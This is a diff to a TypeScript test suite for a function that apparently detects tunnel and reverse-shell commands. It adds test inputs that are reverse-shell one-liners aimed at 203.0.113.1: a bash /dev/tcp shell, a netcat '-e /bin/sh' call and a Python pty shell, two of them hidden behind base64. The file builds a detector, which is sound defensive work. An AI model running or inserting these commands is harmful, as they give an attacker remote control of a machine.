@@ -287,7 +287,21 @@ const TEXTS: readonly (readonly [text: string, expected: string])[] = [
   ['ps aux | grep "ssh -L"', '-'],
 ];
 
-for (const [text, expected] of TEXTS) {
+const base64 = (text: string) => Buffer.from(text).toString('base64');
+const HIDDEN: readonly (readonly [text: string, expected: string])[] = [
+  [
+    `echo ${base64('bash -i >& /dev/tcp/203.0.113.1/443 0>&1')} | base64 -d | bash`,
+    'reverse-shell > 203.0.113.1:443 $',
+  ],
+  ["echo 'nc -e /bin/sh 203.0.113.1 4444' | sh", 'reverse-shell > 203.0.113.1:4444 $'],
+  [`echo ${base64('apt-get install -y socat')} | base64 -d | sh`, '-'],
+  [
+    `python3 -c 'exec(__import__("base64").b64decode("${base64('import socket,pty,os;s=socket.socket();s.connect(("203.0.113.1",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")')}"))'`,
+    'reverse-shell > 203.0.113.1:4444 $',
+  ],
+];
+
+for (const [text, expected] of [...TEXTS, ...HIDDEN]) {
   test(`text: ${text}`.slice(0, 120), () => assert.equal(say(readTunnelText(text)[0]), expected));
 }
 
